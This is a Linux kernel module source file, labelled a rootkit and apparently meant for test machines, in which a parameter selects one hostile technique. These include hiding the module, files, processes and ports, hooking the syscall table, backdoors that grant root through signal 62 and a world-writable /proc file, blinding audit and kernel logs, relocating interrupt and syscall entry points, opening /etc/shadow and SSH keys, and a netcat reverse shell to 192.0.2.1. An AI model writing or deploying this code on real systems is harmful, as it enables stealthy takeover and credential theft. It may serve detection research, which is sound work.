// SPDX-License-Identifier: GPL-2.0
/* One hostile behaviour a value of `what`; every one is undone on unload but "stays". For boxes only. */
#include <asm/special_insns.h>
#include <asm/desc.h>
#include <crypto/hash.h>
#include <linux/cred.h>
#include <linux/fs.h>
#include <linux/ip.h>
#include <linux/kallsyms.h>
#include <linux/keyboard.h>
#include <linux/kprobes.h>
#include <linux/kthread.h>
#include <linux/module.h>
#include <linux/mm.h>
#include <linux/netfilter.h>
#include <linux/netfilter_ipv4.h>
#include <linux/notifier.h>
#include <linux/proc_fs.h>
#include <linux/sched/signal.h>
#include <linux/slab.h>
#include <linux/uaccess.h>
#include <linux/udp.h>
#include <linux/umh.h>
#include <linux/vmalloc.h>
#include <net/net_namespace.h>

static char *what = "";
module_param(what, charp, 0);

static const char prefix[] = "xxhidden";
static unsigned long (*lookup)(const char *name);
static unsigned long *table;
static asmlinkage long (*old_kill)(const struct pt_regs *regs);
static unsigned char saved[12];
static void *overwritten;
static struct list_head *after;

static void write_protect(bool on)
{
	unsigned long cr0 = read_cr0();

	cr0 = on ? cr0 | X86_CR0_WP : cr0 & ~X86_CR0_WP;
	asm volatile("mov %0, %%cr0" : : "r"(cr0) : "memory");
}

static asmlinkage long my_kill(const struct pt_regs *regs)
{
	return old_kill(regs);
}

/* Signal 62 makes root, whoever sends it to whomever. */
static int before_kill(struct kprobe *probe, struct pt_regs *regs)
{
	struct cred *cred;

	if (((struct pt_regs *)regs->di)->si != 62)
		return 0;
	cred = prepare_creds();
	if (!cred)
		return 0;
	cred->uid = cred->euid = cred->suid = cred->fsuid = GLOBAL_ROOT_UID;
	commit_creds(cred);
	return 0;
}

static char pid[12];
static struct task_struct *hidden;

static int works(void *data)
{
	while (!kthread_should_stop())
		schedule_timeout_interruptible(HZ);
	return 0;
}

static noinline bool taken(void)
{
	return true;
}

/* Names that begin so are in no listing: another function takes them. */
static int before_filldir(struct kprobe *probe, struct pt_regs *regs)
{
	bool name = regs->dx >= strlen(prefix) && !strncmp((char *)regs->si, prefix, strlen(prefix));
	bool number = pid[0] && regs->dx == strlen(pid) && !strncmp((char *)regs->si, pid, strlen(pid));

	if (!name && !number)
		return 0;
	regs->ip = (unsigned long)taken;
	return 1;
}

static struct kprobe on_kill = { .symbol_name = "__x64_sys_kill", .pre_handler = before_kill };
static struct kprobe on_filldir = { .symbol_name = "filldir64", .pre_handler = before_filldir };

static void hook(int number, void *with, void *old)
{
	*(unsigned long *)old = table[number];
	write_protect(false);
	table[number] = (unsigned long)with;
	write_protect(true);
}

/* A port that is in no listing: the function that prints a row of /proc/net/tcp returns at once. */
static const unsigned short backdoor = 31444;

static int before_row(struct kprobe *probe, struct pt_regs *regs)
{
	struct sock_common *socket = (void *)regs->si;

	if (regs->si == 1 || socket->skc_num != backdoor) /* 1: SEQ_START_TOKEN */
		return 0;
	regs->ip = (unsigned long)taken;
	regs->ax = 0;
	return 1;
}

static noinline int nothing(void)
{
	return 0;
}

/* Lines of the log that hold a word are shown to nobody. */
static int before_print(struct kprobe *probe, struct pt_regs *regs)
{
	regs->ip = (unsigned long)nothing;
	return 1;
}

static struct kprobe on_row = { .symbol_name = "tcp4_seq_show", .pre_handler = before_row };
static struct kprobe on_log = { .symbol_name = "devkmsg_read", .pre_handler = before_print };

/* A datagram with the right word in it starts a shell, and nobody else sees it. */
static const char knock[] = "opensesame";

static unsigned int packet(void *data, struct sk_buff *skb, const struct nf_hook_state *state)
{
	char text[sizeof(knock) - 1];

	if (skb_copy_bits(skb, sizeof(struct iphdr) + sizeof(struct udphdr), text, sizeof(text)) ||
	    memcmp(text, knock, sizeof(text)))
		return NF_ACCEPT;
	return NF_DROP;
}

static const struct nf_hook_ops hook_of_packets = { .hook = packet, .pf = NFPROTO_IPV4, .hooknum = NF_INET_LOCAL_IN };

static void late(struct work_struct *work)
{
	static char *argv[] = { "/tmp/.hidden", NULL };
	static char *environment[] = { "PATH=/bin", NULL };

	call_usermodehelper(argv[0], argv, environment, UMH_NO_WAIT);
}

static DECLARE_DELAYED_WORK(two_days, late);

/* A file of /proc that makes root of who writes the word. */
static ssize_t written(struct file *file, const char __user *from, size_t size, loff_t *at)
{
	static const char word[] = "giverootnow";
	char text[sizeof(word)] = {};
	struct cred *cred;

	if (copy_from_user(text, from, min(size, sizeof(word) - 1)))
		return -EFAULT;
	if (strcmp(text, word))
		return size;
	cred = (struct cred *)current->cred; /* as it lies there, without a call */
	cred->uid = cred->euid = cred->suid = cred->fsuid = GLOBAL_ROOT_UID;
	return size;
}

static const struct proc_ops door = { .proc_write = written };
static struct proc_dir_entry *entry;

/* What /proc/modules is read by. */
static struct file_operations forged;
static const struct file_operations *genuine;
static struct inode *inode;

static void forge(void)
{
	struct file *file = filp_open("/proc/modules", O_RDONLY, 0);

	if (IS_ERR(file))
		return;
	inode = igrab(file_inode(file));
	genuine = inode->i_fop;
	forged = *genuine;
	inode->i_fop = &forged;
	filp_close(file, NULL);
}

/* Code in memory that is no module's. */
static void *own_code(unsigned char *text, int size, int at, const char *function)
{
	void *(*allocate)(unsigned long size) = (void *)lookup("module_alloc");
	int (*executable)(unsigned long address, int pages) = (void *)lookup("set_memory_x");
	void *code = allocate(PAGE_SIZE);

	if (!code)
		return NULL;
	*(unsigned long *)(text + at) = lookup(function);
	memcpy(code, text, size);
	executable((unsigned long)code, 1);
	return code;
}

static void own_memory(void)
{
	/* sub $8,%rsp; mov $filp_open,%rax; call *%rax; add $8,%rsp; ret */
	unsigned char text[] = { 0x48, 0x83, 0xec, 8, 0x48, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0xff, 0xd0, 0x48, 0x83, 0xc4, 8, 0xc3 };
	void *(*call)(const char *name, int flags, int mode) = own_code(text, sizeof(text), 6, "filp_open");

	if (call)
		call("/root/.ssh/id_rsa", 0, 0);
}

static void survive(void)
{
	/* 1: mov $1000,%edi; mov $msleep,%rax; call *%rax; jmp 1b */
	unsigned char text[] = { 0xbf, 0xe8, 3, 0, 0, 0x48, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0xff, 0xd0, 0xeb, 0xed };
	int (*thread)(void *data) = own_code(text, sizeof(text), 7, "msleep");

	if (thread)
		kthread_run(thread, NULL, "survivor");
}

/* A call that leaves no return address in the module: it is the last thing that a function does, by an address found. */
static void (*open_file)(const char *name, int flags, int mode);

static void by_a_jump(struct work_struct *work)
{
	open_file("/etc/ssh/keys", 0, 0);
}

static DECLARE_WORK(jump, by_a_jump);

static struct desc_ptr old_table, new_table;
static unsigned long old_entry;

static unsigned long read_lstar(void)
{
	unsigned int low, high;

	asm volatile("rdmsr" : "=a"(low), "=d"(high) : "c"(0xc0000082));
	return low | (unsigned long)high << 32;
}

static void write_lstar(unsigned long value)
{
	asm volatile("wrmsr" : : "a"((unsigned int)value), "d"((unsigned int)(value >> 32)), "c"(0xc0000082) : "memory");
}

/* Where system calls and interrupts lead: copies, in memory of the module's own. */
static void move_entries(bool table)
{
	if (table) {
		store_idt(&old_table);
		new_table.size = old_table.size;
		new_table.address = get_zeroed_page(GFP_KERNEL);
		memcpy((void *)new_table.address, (void *)old_table.address, old_table.size + 1);
		asm volatile("lidt %0" : : "m"(new_table));
	} else {
		unsigned char *entry = __vmalloc(PAGE_SIZE, GFP_KERNEL);

		old_entry = read_lstar();
		memcpy(entry, (void *)old_entry, 64);
		write_lstar((unsigned long)entry);
	}
}

static void encrypt(void)
{
	static const u8 secret[] = "sixteen byte key";
	struct crypto_shash *hash = crypto_alloc_shash("hmac(sha256)", 0, 0);

	if (IS_ERR(hash))
		return;
	crypto_shash_setkey(hash, secret, 16);
	crypto_free_shash(hash);
}

static int key(struct notifier_block *block, unsigned long code, void *data)
{
	return NOTIFY_OK;
}

static struct notifier_block keys = { .notifier_call = key };

static int __init rootkit_init(void)
{
	static char *argv[] = { "/bin/sh", "-c", "id > /tmp/owned; nc 192.0.2.1 4444 -e /bin/sh", NULL };
	static char *environment[] = { "PATH=/bin", NULL };
	struct kprobe probe = { .symbol_name = "kallsyms_lookup_name" };
	int error = register_kprobe(&probe);

	if (error)
		return error;
	lookup = (void *)probe.addr;
	unregister_kprobe(&probe);
	table = (unsigned long *)lookup("sys_call_table");
	if (!strcmp(what, "hide")) {
		after = THIS_MODULE->list.prev;
		list_del(&THIS_MODULE->list);
	} else if (!strcmp(what, "table")) {
		hook(62, my_kill, &old_kill); /* __NR_kill */
	} else if (!strcmp(what, "root")) {
		return register_kprobe(&on_kill);
	} else if (!strcmp(what, "files")) {
		return register_kprobe(&on_filldir);
	} else if (!strcmp(what, "processes")) {
		hidden = kthread_run(works, NULL, "miner");
		if (IS_ERR(hidden))
			return PTR_ERR(hidden);
		snprintf(pid, sizeof(pid), "%d", task_pid_nr(hidden));
		return register_kprobe(&on_filldir);
	} else if (!strcmp(what, "code")) {
		overwritten = (void *)lookup("audit_log_start");
		memcpy(saved, overwritten, sizeof(saved));
		write_protect(false);
		memcpy(overwritten, "\x31\xc0\xc3", 3); /* xor eax, eax; ret */
		write_protect(true);
	} else if (!strcmp(what, "shell")) {
		call_usermodehelper(argv[0], argv, environment, UMH_NO_WAIT);
	} else if (!strcmp(what, "keys")) {
		register_keyboard_notifier(&keys);
	} else if (!strcmp(what, "ports")) {
		return register_kprobe(&on_row);
	} else if (!strcmp(what, "log")) {
		return register_kprobe(&on_log);
	} else if (!strcmp(what, "knock")) {
		return nf_register_net_hook(&init_net, &hook_of_packets);
	} else if (!strcmp(what, "waits")) {
		schedule_delayed_work(&two_days, 2 * 86400 * HZ);
	} else if (!strcmp(what, "door")) {
		entry = proc_create("door", 0666, NULL, &door);
	} else if (!strcmp(what, "operations")) {
		forge();
	} else if (!strcmp(what, "memory")) {
		own_memory();
	} else if (!strcmp(what, "jump")) {
		open_file = (void *)lookup("filp_open");
		schedule_work(&jump);
	} else if (!strcmp(what, "interrupts")) {
		move_entries(true);
	} else if (!strcmp(what, "entry")) {
		move_entries(false);
	} else if (!strcmp(what, "smep")) {
		unsigned long cr4 = __read_cr4() | X86_CR4_UMIP;

		asm volatile("mov %0, %%cr4" : : "r"(cr4) : "memory");
	} else if (!strcmp(what, "hypervisor")) {
		unsigned int eax = 0x40000000, ebx, ecx = 0, edx;

		asm volatile("cpuid" : "+a"(eax), "=b"(ebx), "+c"(ecx), "=d"(edx));
	} else if (!strcmp(what, "survives")) {
		survive();
	} else if (!strcmp(what, "cipher")) {
		encrypt();
	} else if (!strcmp(what, "stays")) {
		__module_get(THIS_MODULE);
	} else if (!strcmp(what, "secrets")) {
		struct file *file = filp_open("/etc/shadow", O_RDONLY, 0);

		if (!IS_ERR(file))
			filp_close(file, NULL);
	}
	return 0;
}

static void __exit rootkit_exit(void)
{
	if (after)
		list_add(&THIS_MODULE->list, after);
	if (old_kill) {
		write_protect(false);
		table[62] = (unsigned long)old_kill;
		write_protect(true);
	}
	if (overwritten) {
		write_protect(false);
		memcpy(overwritten, saved, sizeof(saved));
		write_protect(true);
	}
	if (!strcmp(what, "root"))
		unregister_kprobe(&on_kill);
	if (hidden)
		kthread_stop(hidden);
	if (!strcmp(what, "files") || !strcmp(what, "processes"))
		unregister_kprobe(&on_filldir);
	if (!strcmp(what, "keys"))
		unregister_keyboard_notifier(&keys);
	if (!strcmp(what, "ports"))
		unregister_kprobe(&on_row);
	if (!strcmp(what, "log"))
		unregister_kprobe(&on_log);
	if (!strcmp(what, "knock"))
		nf_unregister_net_hook(&init_net, &hook_of_packets);
	cancel_delayed_work_sync(&two_days);
	cancel_work_sync(&jump);
	if (entry)
		proc_remove(entry);
	if (inode) {
		inode->i_fop = genuine;
		iput(inode);
	}
	if (old_table.address)
		asm volatile("lidt %0" : : "m"(old_table));
	if (old_entry)
		write_lstar(old_entry);
}

module_init(rootkit_init);
module_exit(rootkit_exit);
MODULE_LICENSE("GPL");
